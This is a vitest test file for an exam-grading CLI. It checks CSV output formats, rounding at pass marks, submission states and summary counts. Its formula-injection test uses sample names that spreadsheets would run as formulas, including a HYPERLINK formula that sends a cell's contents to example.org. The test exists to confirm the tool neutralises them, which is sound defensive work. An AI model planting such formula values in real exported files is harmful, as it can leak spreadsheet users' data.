import { existsSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, test } from 'vitest';
import { shareText } from '../../src/cli/grade/closing.ts';
import { type CsvRow, readCsv } from '../../src/io/csv.ts';
import { bankOf, folderWith, run } from '../support/run.ts';

const flag = (id: string, points = 1) => ({ id, type: 'true-false', answer: true, points });

interface ClassOf {
  readonly questions: readonly object[];
  readonly exam?: object;
  /** Lines, or submissions that make a line each. */
  readonly submissions: string | readonly object[];
  readonly roster?: string;
}

const grade = async (
  { questions, exam = {}, submissions, roster }: ClassOf,
  options: readonly string[] = [],
  stop?: AbortSignal,
) => {
  const names = (questions as readonly { readonly id: string }[]).map(({ id }) => `sample/${id}`);
  const folder = folderWith({
    'bank.yaml': bankOf(questions),
    'class.exam.yaml': JSON.stringify({
      exam: 'class',
      shuffle: { choices: false },
      title: 'Class',
      banks: ['bank.yaml'],
      sections: [{ title: 'All', questions: names }],
      ...exam,
    }),
    'class.ndjson':
      typeof submissions === 'string' ? submissions : submissions.map((one) => JSON.stringify(one)).join('\n'),
    ...(roster === undefined ? {} : { 'roster.csv': roster }),
  });
  const csv = join(folder, 'grades.csv');
  const list = roster === undefined ? [] : ['--roster', join(folder, 'roster.csv')];
  const { code, err } = await run(
    ['grade', join(folder, 'class.exam.yaml'), join(folder, 'class.ndjson'), '--csv', csv, ...list, ...options],
    stop === undefined ? {} : { stop },
  );
  const text = (): string => readFileSync(csv, 'utf8');
  const rows = async (): Promise<readonly CsvRow[]> => {
    const read = await readCsv(text());
    return 'rows' in read ? read.rows : [];
  };
  return { code, err, text, rows, csv };
};

const cell = (row: CsvRow | undefined, name: string): string | undefined => row?.cells.get(name);

describe('C03: 1.33 points stay 1.33 points in every spreadsheet', () => {
  const marked: ClassOf = {
    questions: [flag('third', 1.33), flag('half', 0.5), flag('ten', 10)],
    submissions: [
      { candidate: { id: 's01', name: 'Müller; Ann, "Annie"' }, answers: { third: true } },
      { candidate: { id: 's02', name: "O'Neil\nBob" }, answers: { half: true } },
      { candidate: { id: 's03', name: ' Zoë ' }, answers: { ten: true } },
    ],
  };
  test.each([
    ['plain', '1.33', '\n', ''],
    ['excel-en', '1.33', '\r\n', '\uFEFF'],
    ['excel-es', '1,33', '\r\n', '\uFEFF'],
  ])('%s writes its own marks and is read back', async (form, written, lineEnd, mark) => {
    const { text, rows } = await grade(marked, ['--csv-for', form]);
    const separator = form === 'excel-es' ? ';' : ',';
    expect(text().startsWith(`${mark}candidate${separator}`)).toBe(true);
    expect(text()).toContain(
      `${lineEnd}s01${separator}"Müller; Ann, ""Annie"""${separator}graded${separator}${written}${separator}`,
    );
    const read = await rows();
    expect(read.map((row) => cell(row, 'name'))).toEqual(['Müller; Ann, "Annie"', "O'Neil\nBob", ' Zoë ']);
    expect(read.map((row) => Number(cell(row, 'points')?.replace(',', '.')))).toEqual([1.33, 0.5, 10]);
  });
});

describe('C05: no cell runs as a formula', () => {
  const names = [
    '=HYPERLINK("http://example.org/?"&A1,"ok")',
    '+cold',
    '-cold',
    ' =4',
    '\t=2',
    '\r=5',
    '＝3',
    '@SUM(1)',
  ];
  const odd: ClassOf = {
    questions: [flag('one')],
    exam: { title: '=1+1' },
    submissions: names.map((name, at) => ({ candidate: { id: at === 0 ? '=1+1' : `s${at}`, name }, answers: {} })),
  };
  test.each(['plain', 'moodle', 'canvas', 'excel-es', 'excel-en'])('in %s', async (form) => {
    const { rows, text } = await grade(odd, ['--csv-for', form]);
    const read = await rows();
    const inner = text().replace(/"/g, '');
    for (const name of names) expect(inner).toContain(`'${name.replace(/"/g, '')}`);
    expect(inner).toContain("'=1+1");
    // Our own import takes the guard off again.
    const head = { moodle: 'fullname', canvas: 'student' }[form] ?? 'name';
    expect(read.map((row) => cell(row, head)).filter((name) => name !== 'Points Possible')).toEqual(names);
  });
  test('--raw writes the data as it is', async () => {
    const { text } = await grade(odd, ['--raw']);
    expect(text()).toContain('\n=1+1,"=HYPERLINK(""http://example.org/?""&A1,""ok"")",graded,0,');
    expect(text()).toContain('\ns2,-cold,graded,');
  });
});

test('C06: numbers are never guarded, and a text that looks like one is data', async () => {
  const below: ClassOf = {
    questions: [
      {
        id: 'one',
        type: 'single-choice',
        points: 1.5,
        choices: { a: 'A', b: 'B', c: 'C' },
        answer: 'a',
        credit: { b: -1 },
      },
    ],
    exam: { grading: { floor: 'none' } },
    submissions: [
      { candidate: { id: '-5', name: '+3' }, answers: { one: 'b' } },
      { candidate: { id: 's2' }, answers: { one: 'a' } },
    ],
  };
  const { text, rows } = await grade(below);
  expect(text()).toContain("\n'-5,'+3,graded,-1.5,1.5,-100,-10,,false,,-1.5,-1.5,0\n");
  const [first] = await rows();
  expect([cell(first, 'candidate'), cell(first, 'name'), Number(cell(first, 'points'))]).toEqual(['-5', '+3', -1.5]);
  expect((await grade(below, ['--raw'])).text()).toContain('\n-5,+3,graded,-1.5,');
});

test('G08: zero points, absent, waiting and rejected can be told apart', async () => {
  const { text, err } = await grade({
    questions: [flag('one'), { id: 'why', type: 'essay' }],
    submissions: [
      { candidate: { id: 's01' }, answers: { one: false } },
      { candidate: { id: 's03' }, answers: { one: true, why: 'so' } },
      { candidate: { id: 's04' }, exam: 'another', answers: {} },
    ],
    roster: 'candidate\ns01\ns02\ns03\ns04\n',
  });
  const columns = text()
    .trimEnd()
    .split('\n')
    .slice(1)
    .map((line) => line.split(',').filter((_, at) => [0, 2, 3, 6, 11, 12].includes(at)));
  expect(columns).toEqual([
    ['s01', 'graded', '0', '0', '0', '0'],
    ['s03', 'needs-review', '1', '', '1', ''],
    ['s04', 'rejected', '', '', '', ''],
    ['s02', 'absent', '', '', '', ''],
  ]);
  expect(err).toContain('2 graded (1 of them waits for marks), 1 failed (rejected), 0 superseded; 1 absent.');
});

describe('P02: no figure crosses a boundary that it does not reach', () => {
  const nearly = (right: number, wrong: number, grading: object): ClassOf => ({
    questions: [flag('right', right), flag('wrong', wrong)],
    exam: { grading },
    submissions: [{ candidate: { id: 's1' }, answers: { right: true, wrong: false } }],
  });
  test('999 of 1003 is 99.6 %', async () => {
    const [row] = await (await grade(nearly(9.99, 0.04, { scale: 100, decimals: 1 }))).rows();
    expect([cell(row, 'percent'), cell(row, 'grade')]).toEqual(['99.6', '99.6']);
  });
  test('49.96 with a pass mark of 50 has not passed, in the gradebook and on the page', async () => {
    const pages = folderWith({});
    const marked = nearly(49.96, 50.04, { scale: 100, pass: 50 });
    const [row] = await (await grade(marked, ['--feedback', pages])).rows();
    expect([cell(row, 'percent'), cell(row, 'grade'), cell(row, 'passed')]).toEqual(['49.96', '49.96', 'false']);
    const page = readFileSync(join(pages, 's1.html'), 'utf8');
    expect(page).toContain('49.96 %');
    expect(page).toContain('Not passed (50 is needed)');
  });
  test('where grades are printed without decimals, the printed grade decides', async () => {
    const [row] = await (await grade(nearly(49.96, 50.04, { scale: 100, pass: 50, decimals: 0 }))).rows();
    expect([cell(row, 'grade'), cell(row, 'passed')]).toEqual(['50', 'true']);
  });
  test.each([
    [1, '100 %'],
    [0.996, '99 %'],
    [0.5, '50 %'],
    [0.001, '1 %'],
    [0, '0 %'],
  ])('a share of %d is %s in the summary', (share, text) => expect(shareText(share)).toBe(text));
});

describe('P05: a summary says of how many it speaks', () => {
  const partial: ClassOf = {
    questions: [flag('one')],
    exam: { grading: { pass: 5 } },
    submissions: [
      '{"candidate":{"id":"s01"},"answers":{"one":true}}',
      '{"candidate":{"id":"s02"},"answers":{"one":false}}',
      '{"candidate":{"id":"s03"},',
    ].join('\n'),
    roster: 'candidate\ns01\ns02\ns03\ns04\n',
  };
  test('graded, failed, absent and all', async () => {
    const { code, err, rows } = await grade(partial);
    expect(code).toBe(1);
    expect(err).toContain('2 submissions graded, 1 rejected, 0 superseded.');
    expect(err).toContain('In all 3 submissions: 2 graded, 1 failed (rejected), 0 superseded; 2 absent.\n');
    expect(err).toContain('Passed: 1 of 2 (50 %).');
    expect((await rows()).map((row) => cell(row, 'state'))).toEqual(['graded', 'graded', 'absent', 'absent']);
  });
  test('a run that is stopped leaves nothing that looks whole', async () => {
    const stop = new AbortController();
    stop.abort(130);
    const { code, csv } = await grade(partial, [], stop.signal);
    expect(code).toBe(130);
    expect(existsSync(csv)).toBe(false);
  });
  test('the weakest questions need five answers', async () => {
    const answers = { easy: true, hard: false, rare: null };
    const one = (id: string, more = {}) => ({ candidate: { id }, answers: { ...answers, ...more } });
    const five = [one('a', { rare: false }), one('b'), one('c'), one('d'), one('e', { hard: true })];
    const { err } = await grade({ questions: [flag('easy'), flag('hard'), flag('rare')], submissions: five });
    expect(err).toContain('Weakest questions (mean share of their points):\n   20 %  sample/hard (5 answers)\n');
    expect(err).not.toMatch(/sample\/(rare|easy)/);
  });
});
